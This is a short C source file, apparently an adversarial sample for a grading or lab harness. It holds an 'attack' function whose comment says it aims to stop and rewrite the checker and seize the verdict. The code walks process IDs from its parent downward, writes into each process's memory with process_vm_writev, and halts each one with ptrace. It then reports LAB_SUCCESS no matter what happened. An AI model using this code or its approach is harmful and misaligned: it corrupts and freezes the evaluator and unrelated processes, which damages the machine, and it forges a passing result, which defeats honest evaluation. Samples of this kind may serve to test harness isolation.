/* Tries to stop and rewrite the check, the device process and all others with the calls of a debugger.
 * Gains the verdict itself. */
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <unistd.h>

static lab_status attack(attack_honest *honest, void *arguments, size_t bytes, float *out, const float *in, int count)
{
    char byte = 0;
    struct iovec local = {&byte, 1}, remote = {(void *)0x400000, 1};
    for (pid_t process = getppid(); process > 0; process--) {
        process_vm_writev(process, &local, 1, &remote, 1, 0);
        if (ptrace(PTRACE_SEIZE, process, 0, 0) == 0) ptrace(PTRACE_INTERRUPT, process, 0, 0);
    }
    return LAB_SUCCESS;
}
